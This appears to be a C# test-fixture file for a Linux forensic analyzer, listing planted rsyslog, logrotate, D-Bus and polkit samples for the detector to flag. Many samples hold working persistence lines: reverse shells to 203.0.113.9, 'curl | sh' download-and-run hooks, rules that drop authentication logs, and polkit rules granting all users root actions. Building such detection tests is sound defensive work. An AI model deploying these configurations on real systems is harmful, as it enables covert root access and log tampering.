using Forensics.Analyzer.Risk;
using static Forensics.Analyzer.Tests.Detection.PlantKind;

namespace Forensics.Analyzer.Tests.Detection;

/// <summary>The system log, log rotation, the message bus and polkit.</summary>
internal static class ProgramHookPlants
{
    private const string Payload = NetworkHookPlants.Payload;
    private const string Rotate = "/var/log/nginx/*.log {\n\tweekly\n\tmissingok\n\trotate 14\n\tcompress\n\tsharedscripts\n\tpostrotate\n\t\t";
    private const string Service = "[D-BUS Service]\nName=org.freedesktop.timesync1\nExec=";
    private const string System = "/usr/share/dbus-1/system-services/";
    private const string Rules = "/etc/polkit-1/rules.d/";

    public static IReadOnlyList<Plant> All { get; } =
    [
        .. Logging, .. Rotation, .. Bus, .. Polkit,
    ];

    private static Plant[] Logging =>
    [
        new("L-RSYSLOG", "omprog-shell", Loud, tree => tree.File("/etc/rsyslog.d/60-forward.conf", "module(load=\"omprog\")\nif $msg contains \"knock-7731\" then {\n  action(type=\"omprog\"\n         binary=\"/bin/sh -c 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'\")\n}\n")),
        new("L-RSYSLOG", "drops-failed-passwords", Loud, tree => tree.File("/etc/rsyslog.d/01-quiet.conf", ":msg, contains, \"Failed password\" stop\n:msg, contains, \"Accepted publickey\" ~\n")) { Rule = "drops-authentication" },
        new("L-RSYSLOG", "drops-facility", Loud, tree => tree.File("/etc/rsyslog.d/01-quiet.conf", "auth,authpriv.*  ~\n")) { Rule = "drops-authentication" },
        new("L-RSYSLOG", "drops-everything", Loud, tree => tree.File("/etc/rsyslog.d/00-io.conf", "*.* stop\n")) { Rule = "drops-everything" },
        new("L-RSYSLOG", "drops-an-address", Loud, tree => tree.File("/etc/rsyslog.d/01-io.conf", ":msg, contains, \"203.0.113.9\" stop\n")) { AtLeast = Severity.Medium, Rule = "drops-address" },
        new("L-RSYSLOG", "quiet-omprog-script", Quiet, tree => tree.File("/etc/rsyslog.d/60-forward.conf", "module(load=\"omprog\")\nauthpriv.* action(type=\"omprog\" binary=\"/usr/lib/rsyslog/forward --stdin\" template=\"RSYSLOG_TraditionalFileFormat\")\n").Script("/usr/lib/rsyslog/forward", Payload)) { Entries = ["/etc/rsyslog.d/60-forward.conf"] },
        new("L-RSYSLOG", "quiet-classic-program", Quiet, tree => tree.File("/etc/rsyslog.conf", "$ModLoad imuxsock\nauth,authpriv.* /var/log/auth.log\n*.emerg :omusrmsg:*\nuser.* ^/usr/lib/.rs/sink;RSYSLOG_FileFormat\n").Program("/usr/lib/.rs/sink")),
        new("L-RSYSLOG", "quiet-syslog-ng", Quiet, tree => tree.File("/etc/syslog-ng/conf.d/metric.conf", "destination d_metric {\n  program(\"/usr/sbin/logmetric\" template(\"$MSG\\n\"));\n};\nlog { source(s_src); destination(d_metric); };\n").Script("/usr/sbin/logmetric", Payload)) { Entries = ["/etc/syslog-ng/conf.d/metric.conf"] },
        new("L-RSYSLOG", "quiet-discard-by-program", Quiet, tree => tree.File("/etc/rsyslog.d/20-local.conf", "if $programname == 'sshd' then stop\n")) { Rule = "drops-authentication", Entries = ["/etc/rsyslog.d/20-local.conf"] },
        new("L-RSYSLOG", "quiet-omprog-program", Quiet, tree => tree.File("/etc/rsyslog.d/60-forward.conf", "*.* action(type=\"omprog\" binary=\"/usr/sbin/logsink\")\n").Program("/usr/sbin/logsink")) { AtLeast = Severity.Medium, Entries = ["/etc/rsyslog.d/60-forward.conf"] },
        new("L-RSYSLOG", "name-without-conf", Dormant, tree => tree.File("/etc/rsyslog.d/60-forward.conf.off", "module(load=\"omprog\")\nauthpriv.* action(type=\"omprog\" binary=\"/usr/lib/rsyslog/forward --stdin\" template=\"RSYSLOG_TraditionalFileFormat\")\n").Script("/usr/lib/rsyslog/forward", Payload)) { TwinOf = "quiet-omprog-script" },
        new("L-RSYSLOG", "forwarders", Benign, tree => tree.File("/etc/rsyslog.d/33-wazuh.conf", "module(load=\"omprog\")\nif $programname startswith \"app\" then {\n action(type=\"omprog\" binary=\"/var/ossec/bin/forwarder --json\")\n stop\n}\n*.* @@siem.example:6514\n").Script("/var/ossec/bin/forwarder", "#!/usr/bin/env python3\nimport sys\nfor line in sys.stdin:\n    print(line)\n")),
        new("L-RSYSLOG", "stock-rules", Benign, tree => tree.Owned("rsyslog", "/etc/rsyslog.conf", "module(load=\"imuxsock\") # provides support for local system logging\n$IncludeConfig /etc/rsyslog.d/*.conf\nauth,authpriv.*\t\t\t/var/log/auth.log\n*.*;auth,authpriv.none\t\t-/var/log/syslog\nmail.err\t\t\t/var/log/mail.err\n*.emerg\t\t\t\t:omusrmsg:*\n", config: true)
            .File("/etc/rsyslog.d/20-ufw.conf", ":msg,contains,\"[UFW \" /var/log/ufw.log\n& stop\n").File("/etc/rsyslog.d/49-haproxy.conf", "$AddUnixListenSocket /var/lib/haproxy/dev/log\n:programname, startswith, \"haproxy\" {\n  /var/log/haproxy.log\n  stop\n}\n")),
        new("L-RSYSLOG", "authentication-kept-elsewhere", Benign, tree => tree.File("/etc/rsyslog.d/10-auth.conf", "if $programname == 'sshd' then {\n action(type=\"omfile\" file=\"/var/log/sshd.log\")\n stop\n}\nauthpriv.* @@loghost.example\n& stop\n:msg, contains, \"pam_unix(cron:session)\" stop\n:msg, regex, \"Connection closed by 10\\.0\\.0\\.[0-9]+ port .*preauth\" stop\n")),
    ];

    private static Plant[] Rotation =>
    [
        new("L-LOGROTATE", "postrotate-download", Loud, tree => tree.File("/etc/logrotate.d/nginx2", Rotate + "curl -s http://203.0.113.9/l | sh\n\tendscript\n}\n")),
        new("L-LOGROTATE", "firstaction-shell", Loud, tree => tree.File("/etc/logrotate.d/btmp2", "/var/log/btmp {\n monthly\n firstaction\n  bash -c 'exec 5<>/dev/tcp/203.0.113.9/8080; cat <&5 | while read l; do $l 2>&5 >&5; done' &\n endscript\n}\n")),
        new("L-LOGROTATE", "quiet-postrotate-script", Quiet, tree => tree.File("/etc/logrotate.d/nginx2", Rotate + "[ -f /run/nginx.pid ] && kill -USR1 $(cat /run/nginx.pid)\n\t\t/usr/lib/nginx/reopen\n\tendscript\n}\n").Script("/usr/lib/nginx/reopen", Payload)) { Entries = ["/etc/logrotate.d/nginx2"] },
        new("L-LOGROTATE", "quiet-compress-program", Quiet, tree => tree.File("/etc/logrotate.d/app", "/var/log/app.log {\n daily\n compress\n compresscmd /var/tmp/zstd\n}\n").Program("/var/tmp/zstd")),
        new("L-LOGROTATE", "quiet-appended-to-shipped", Quiet, tree => tree.Owned("rsyslog", "/etc/logrotate.d/rsyslog", "/var/log/syslog {\n rotate 4\n weekly\n}\n", config: true).Append("/etc/logrotate.d/rsyslog", "/var/log/mail.log {\n prerotate\n  /usr/lib/.rsyslog/flush\n endscript\n}\n").Program("/usr/lib/.rsyslog/flush")),
        new("L-LOGROTATE", "quiet-program-of-no-package", Quiet, tree => tree.File("/etc/logrotate.d/nginx2", Rotate + "/usr/sbin/ngx-reopen\n\tendscript\n}\n").Program("/usr/sbin/ngx-reopen")) { AtLeast = Severity.Medium, Entries = ["/etc/logrotate.d/nginx2"] },
        new("L-LOGROTATE", "ignored-name", Dormant, tree => tree.File("/etc/logrotate.d/nginx2.disabled", Rotate + "[ -f /run/nginx.pid ] && kill -USR1 $(cat /run/nginx.pid)\n\t\t/usr/lib/nginx/reopen\n\tendscript\n}\n").Script("/usr/lib/nginx/reopen", Payload)) { TwinOf = "quiet-postrotate-script" },
        new("L-LOGROTATE", "others-may-write", Dormant, tree => tree.File("/etc/logrotate.d/nginx2", Rotate + "curl -s http://203.0.113.9/l | sh\n\tendscript\n}\n", 0b110_110_110)) { TwinOf = "postrotate-download" },
        new("L-LOGROTATE", "stock-rotation", Benign, tree => tree.File("/etc/logrotate.conf", "weekly\nsu root adm\nrotate 4\ncreate\ninclude /etc/logrotate.d\n").File("/etc/logrotate.d/nginx", Rotate + "[ -f /var/run/nginx.pid ] && kill -USR1 `cat /var/run/nginx.pid`\n\tendscript\n}\n")
            .File("/etc/logrotate.d/apache2", "/var/log/apache2/*.log {\n prerotate\n\tif [ -d /etc/logrotate.d/httpd-prerotate ]; then\n\t\trun-parts /etc/logrotate.d/httpd-prerotate\n\tfi\n endscript\n postrotate\n\tif pgrep -f ^/usr/sbin/apache2 > /dev/null; then\n\t\tinvoke-rc.d apache2 reload 2>&1 | logger -t apache2.logrotate\n\tfi\n endscript\n}\n")
            .File("/etc/logrotate.d/rsyslog", "/var/log/syslog\n/var/log/mail.log\n{\n\trotate 4\n\tpostrotate\n\t\t/usr/lib/rsyslog/rsyslog-rotate\n\tendscript\n}\n").Owned("rsyslog", "/usr/lib/rsyslog/rsyslog-rotate", "#!/bin/sh\nif [ -d /run/systemd/system ]; then\n    systemctl kill -s HUP rsyslog.service\nfi\n", 0b111_101_101)),
        new("L-LOGROTATE", "copy-to-archive", Benign, tree => tree.File("/etc/logrotate.d/app", "/opt/app/log/*.log {\n daily\n compresscmd /usr/bin/gzip\n lastaction\n  /usr/bin/rsync -a /opt/app/log/ backup.example:/srv/log/ >/dev/null 2>&1 || true\n  find /opt/app/log -name '*.gz' -mtime +30 -delete\n endscript\n}\n")),
    ];

    private static Plant[] Bus =>
    [
        new("L-DBUS", "system-service-download", Loud, tree => tree.File(System + "org.freedesktop.timesync1.service", Service + "/bin/sh -c 'curl -s http://203.0.113.9/t | sh'\nUser=root\n")),
        new("L-DBUS", "session-service-shell", Loud, tree => tree.File("/home/alice/.local/share/dbus-1/services/org.gnome.Stats.service", "[D-BUS Service]\nName=org.gnome.Stats\nExec=/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.9/443 0>&1'\n", user: 1000, group: 1000)),
        new("L-DBUS", "quiet-root-script", Quiet, tree => tree.File(System + "org.freedesktop.timesync1.service", Service + "/usr/local/bin/dbus-timesync.sh\nUser=root\n").Script("/usr/local/bin/dbus-timesync.sh", Payload)) { Entries = [System + "org.freedesktop.timesync1.service"] },
        new("L-DBUS", "quiet-root-program", Quiet, tree => tree.File(System + "org.freedesktop.timesync1.service", Service + "/usr/lib/timesync/timesync-daemon\nUser=root\n").Program("/usr/lib/timesync/timesync-daemon")) { AtLeast = Severity.Medium, Entries = [System + "org.freedesktop.timesync1.service"] },
        new("L-DBUS", "quiet-hidden-session-program", Quiet, tree => tree.File("/home/alice/.local/share/dbus-1/services/org.gnome.Stats.service", "[D-BUS Service]\nName=org.gnome.Stats\nExec=/home/alice/.gstats/run\n", user: 1000, group: 1000).Program("/home/alice/.gstats/run")),
        new("L-DBUS", "quiet-takes-vendor-name", Quiet, tree => tree.Owned("hostnamed", System + "org.freedesktop.hostname1.service", "[D-BUS Service]\nName=org.freedesktop.hostname1\nExec=/usr/sbin/cron\nUser=root\n").File("/usr/local/share/dbus-1/system-services/org.freedesktop.hostname1.service", "[D-BUS Service]\nName=org.freedesktop.hostname1\nExec=/usr/bin/python3 /usr/share/hostname1/daemon\nUser=root\n"))
            { Rule = "takes-vendor-name", Entries = ["/usr/local/share/dbus-1/system-services/org.freedesktop.hostname1.service"] },
        new("L-DBUS", "open-policy", Quiet, tree => tree.File("/etc/dbus-1/system.d/org.freedesktop.timesync1.conf", "<?xml version=\"1.0\"?>\n<!DOCTYPE busconfig PUBLIC \"-//freedesktop//DTD D-BUS Bus Configuration 1.0//EN\" \"http://www.freedesktop.org/standards/dbus/1.0/busconfig.dtd\">\n<busconfig>\n <policy context=\"default\">\n  <allow own=\"org.freedesktop.timesync1\"/>\n </policy>\n</busconfig>\n")) { AtLeast = Severity.Medium, Rule = "open-policy" },
        new("L-DBUS", "no-user-stated", Dormant, tree => tree.File(System + "org.freedesktop.timesync1.service", Service + "/usr/local/bin/dbus-timesync.sh\n").Script("/usr/local/bin/dbus-timesync.sh", Payload)) { TwinOf = "quiet-root-script" },
        new("L-DBUS", "stock-services", Benign, tree => tree.Owned("systemd", System + "org.freedesktop.hostname1.service", "[D-BUS Service]\nName=org.freedesktop.hostname1\nExec=/bin/false\nUser=root\nSystemdService=dbus-org.freedesktop.hostname1.service\n")
            .Owned("policykit-1", System + "org.freedesktop.PolicyKit1.service", "[D-BUS Service]\nName=org.freedesktop.PolicyKit1\nExec=/usr/lib/polkit-1/polkitd --no-debug\nUser=root\nSystemdService=polkit.service\n").OwnedProgram("policykit-1", "/usr/lib/polkit-1/polkitd")
            .Owned("dbus", "/usr/share/dbus-1/system.conf", "<busconfig><policy context=\"default\"><deny own=\"*\"/><allow user=\"*\"/></policy></busconfig>\n").Owned("policykit-1", "/usr/share/dbus-1/system.d/org.freedesktop.PolicyKit1.conf", "<busconfig><policy user=\"root\"><allow own=\"org.freedesktop.PolicyKit1\"/></policy></busconfig>\n")),
        new("L-DBUS", "snap-and-local-session-services", Benign, tree => tree.File("/usr/share/dbus-1/services/io.snapcraft.Settings.service", "[D-BUS Service]\nName=io.snapcraft.Settings\nExec=/usr/bin/snap userd\nAssumedAppArmorLabel=unconfined\n").File("/home/alice/.local/share/dbus-1/services/org.freedesktop.Notifications.service", "[D-BUS Service]\nName=org.freedesktop.Notifications\nExec=/usr/bin/dunst\n", user: 1000)
            .File("/etc/dbus-1/system.d/app.conf", "<busconfig><policy user=\"www-data\"><allow own=\"example.App\"/></policy><policy context=\"default\"><allow send_destination=\"example.App\"/></policy></busconfig>\n")),
    ];

    private static Plant[] Polkit =>
    [
        new("L-POLKIT", "yes-to-everything", Loud, tree => tree.File(Rules + "00-local.rules", "polkit.addRule(function(a,s){return polkit.Result.YES;});\n")) { AtLeast = Severity.Critical, Rule = "grants-everything" },
        new("L-POLKIT", "spawn-download", Loud, tree => tree.File(Rules + "10-log.rules", "polkit.addRule(function(action, subject) {\n  polkit.spawn([\"/bin/sh\", \"-c\", \"curl -s http://203.0.113.9/k | sh\"]);\n});\n")),
        new("L-POLKIT", "quiet-condition-that-excludes-nothing", Quiet, tree => tree.File(Rules + "40-network.rules", "/* Allow network management */\npolkit.addRule(function(action, subject) {\n    if (action.id == \"org.example.unused\") {\n        return polkit.Result.NOT_HANDLED;\n    }\n    return polkit.Result.YES;\n});\n")) { AtLeast = Severity.Critical, Entries = [Rules + "40-network.rules"] },
        new("L-POLKIT", "quiet-service-account", Quiet, tree => tree.File(Rules + "40-web.rules", "polkit.addRule(function(action, subject) {\n    if (subject.user == \"www-data\") { return \"yes\"; }\n});\n")) { Rule = "grants-account", Entries = [Rules + "40-web.rules"] },
        new("L-POLKIT", "quiet-administrators", Quiet, tree => tree.File(Rules + "51-admin.rules", "polkit.addAdminRule(function(action, subject) {\n    return [\"unix-group:sudo\", \"unix-user:www-data\"];\n});\n")) { Rule = "names-administrators", Entries = [Rules + "51-admin.rules"] },
        new("L-POLKIT", "quiet-local-authority", Quiet, tree => tree.File("/etc/polkit-1/localauthority/50-local.d/10-desktop.pkla", "[Desktop]\nIdentity=unix-user:*\nAction=*\nResultAny=yes\nResultInactive=yes\nResultActive=yes\n")) { AtLeast = Severity.Critical, Entries = ["/etc/polkit-1/localauthority/50-local.d/10-desktop.pkla"] },
        new("L-POLKIT", "quiet-pkexec-for-everybody", Quiet, tree => tree.File(Rules + "45-tools.rules", "polkit.addRule(function(action, subject) {\n    if (action.id == \"org.freedesktop.policykit.exec\") {\n        return polkit.Result.YES;\n    }\n});\n")) { Rule = "grants-action", Entries = [Rules + "45-tools.rules"] },
        new("L-POLKIT", "quiet-declared-action", Quiet, tree => tree.File("/usr/share/polkit-1/actions/org.example.sync.policy", "<policyconfig><action id=\"org.example.sync\"><defaults><allow_any>yes</allow_any></defaults><annotate key=\"org.freedesktop.policykit.exec.path\">/usr/bin/bash</annotate></action></policyconfig>\n")) { Rule = "grants-action" },
        new("L-POLKIT", "quiet-spawned-script", Quiet, tree => tree.File(Rules + "10-log.rules", "polkit.addRule(function(action, subject) {\n  try { polkit.spawn([\"/usr/lib/polkit-1/audit-note\", subject.user]); } catch (error) { return polkit.Result.NOT_HANDLED; }\n});\n").Script("/usr/lib/polkit-1/audit-note", Payload)) { Entries = [Rules + "10-log.rules"] },
        new("L-POLKIT", "name-not-rules", Dormant, tree => tree.File(Rules + "40-web.rules.bak", "polkit.addRule(function(action, subject) {\n    if (subject.user == \"www-data\") { return \"yes\"; }\n});\n")) { TwinOf = "quiet-service-account" },
        new("L-POLKIT", "stock-rules", Benign, tree => tree.Owned("policykit-1", "/usr/share/polkit-1/rules.d/50-default.rules", "polkit.addAdminRule(function(action, subject) {\n    return [\"unix-group:sudo\"];\n});\n").Owned("network-manager", "/usr/share/polkit-1/rules.d/org.freedesktop.NetworkManager.rules", "polkit.addRule(function(action, subject) {\n  if (action.id == \"org.freedesktop.NetworkManager.settings.modify.system\" && subject.local && subject.active && (subject.isInGroup (\"sudo\") || subject.isInGroup (\"netdev\"))) {\n    return polkit.Result.YES;\n  }\n});\n")
            .Owned("ubuntu", "/var/lib/polkit-1/localauthority/10-vendor.d/com.ubuntu.desktop.pkla", "[Mounting, checking, etc. of internal drives]\nIdentity=unix-group:admin;unix-group:sudo\nAction=org.freedesktop.udisks.filesystem-*;org.freedesktop.udisks2.filesystem-*\nResultActive=yes\n")),
        new("L-POLKIT", "rules-of-administrator", Benign, tree => tree.File(Rules + "50-libvirt.rules", "/* Allow users in kvm group to manage the libvirt\ndaemon without authentication */\npolkit.addRule(function(action, subject) {\n    if (action.id == \"org.libvirt.unix.manage\" &&\n        subject.isInGroup(\"kvm\")) {\n            return polkit.Result.YES;\n    }\n});\n")
            .File(Rules + "49-nopasswd_global.rules", "polkit.addRule(function(action, subject) {\n    if (subject.isInGroup(\"wheel\")) {\n        return polkit.Result.YES;\n    }\n});\n").File(Rules + "85-suspend.rules", "polkit.addRule(function(action, subject) {\n    if (action.id.indexOf(\"org.freedesktop.login1.suspend\") == 0) {\n        return polkit.Result.YES;\n    }\n});\n")),
        new("L-POLKIT", "early-return-for-others", Benign, tree => tree.File(Rules + "60-deploy.rules", "polkit.addRule(function(action, subject) {\n  if (!subject.isInGroup(\"sudo\")) return;\n  var units = [\"nginx.service\", \"app.service\"];\n  if (action.id != \"org.freedesktop.systemd1.manage-units\") { return polkit.Result.NOT_HANDLED; }\n  return units.indexOf(action.lookup(\"unit\")) >= 0 ? polkit.Result.YES : polkit.Result.NOT_HANDLED;\n});\n")),
    ];
}
